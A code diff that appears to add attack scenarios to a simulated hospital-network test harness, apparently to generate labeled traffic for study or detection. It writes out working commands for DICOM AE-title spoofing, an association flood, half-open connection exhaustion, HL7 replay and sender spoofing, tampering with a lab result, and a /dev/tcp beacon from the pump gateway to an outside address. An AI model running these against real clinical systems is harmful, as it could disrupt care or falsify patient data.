@@ -748,6 +748,88 @@ record(
   },
 );
 
+// ---- What an intruder does with everybody's tools ----
+
+const asks = (called: string, calling = 'ECHOSCU') =>
+  `echoscu -aet ${calling} -aec ${called} ${HOSTS.pacs.ip} ${PORTS.dicom}`;
+const shell = (h: Hospital, host: 'pc' | 'pumps', script: string) => h.run(host, ['bash', '-c', script]);
+
+record(
+  'attacks/title-borrowed',
+  'storescu, Orthanc',
+  'the scanner stores, then a PC stores under the scanner’s AE title, then the scanner again',
+  async (h) => {
+    await h.store('ct', ct(h, 31, 1, 32));
+    await h.run('pc', [
+      ...['storescu', '-aet', 'CT_REVO1', '-aec', 'ARCHIVE1'],
+      ...[HOSTS.pacs.ip, PORTS.dicom, ...ct(h, 32, 1, 32)],
+    ]);
+    await h.store('ct', ct(h, 33, 1, 32));
+  },
+);
+record(
+  'attacks/flood',
+  'echoscu, Orthanc',
+  'a PC asks for associations as fast as it can, for seconds',
+  (h) =>
+    shell(
+      h,
+      'pc',
+      `for i in $(seq 8); do (while [ $SECONDS -lt 4 ]; do ${asks('ARCHIVE1')} || true; done) & done; wait`,
+    ),
+);
+record(
+  'attacks/half-open',
+  'bash, wlmscpfs',
+  'sixty connections to the worklist on which nothing is said for more than half a minute',
+  async (h) => {
+    await h.worklist(['ScheduledProcedureStepSequence[0].Modality=CT', 'PatientID']);
+    const open = `exec 3<>/dev/tcp/${HOSTS.worklist.ip}/${PORTS.worklist}; sleep 32`;
+    await shell(h, 'pc', `for i in $(seq 60); do timeout 34 bash -c '${open}' & sleep 0.05; done; wait`);
+  },
+);
+record(
+  'attacks/message-replayed',
+  'simple-hl7',
+  'the EHR’s message, accepted, is sent again by a PC',
+  async (h) => {
+    const messages = [hl7.adt('A01', at('140000', 'ZZE101')), hl7.adt('A03', at('140001', 'ZZE102'))];
+    await h.hl7('ehr', 'engine', messages);
+    await h.hl7('pc', 'engine', messages.slice(0, 1));
+    await h.hl7('ehr', 'engine', [hl7.adt('A08', at('140005', 'ZZE103'))]);
+  },
+);
+record(
+  'attacks/result-altered',
+  'simple-hl7',
+  'the analyser’s result reaches the EHR with another value than the engine received',
+  async (h) => {
+    const result = hl7.labResult(at('141000', 'ZZE201', bravo));
+    await h.hl7('lab', 'engine', [result]);
+    await h.hl7('engine', 'ehr', [result.replace('||4.1|', '||6.9|')], { port: PORTS.engine });
+  },
+);
+record(
+  'attacks/sender-borrowed',
+  'simple-hl7',
+  'a PC sends messages of its own under the EHR’s name',
+  async (h) => {
+    await h.hl7('ehr', 'engine', [hl7.adt('A01', at('142000', 'ZZE301'))]);
+    await h.hl7('pc', 'engine', [hl7.adt('A08', at('142001', 'ZZE302', bravo))]);
+    await h.hl7('ehr', 'engine', [hl7.adt('A08', at('142002', 'ZZE303', erika))]);
+  },
+);
+record(
+  'attacks/beacon',
+  'simple-hl7, bash',
+  'the pump gateway reports, and tries a public address on the port of line printers',
+  async (h) => {
+    await h.hl7('pumps', 'engine', [hl7.pumpData(at('143000', 'ZZE401', jeannette), '125', '500')]);
+    const knock = `(exec 3<>/dev/tcp/${OUTSIDE.vendor.ip}/515) 2>/dev/null || true`;
+    await shell(h, 'pumps', `for i in 1 2 3; do ${knock}; sleep 1; done`);
+  },
+);
+
 /** The archive has a study of six slices to find and to move. */
 const archived = { before: (hospital: Hospital) => hospital.store('ct', ct(hospital, 15, 6, 64, erika)) };
 
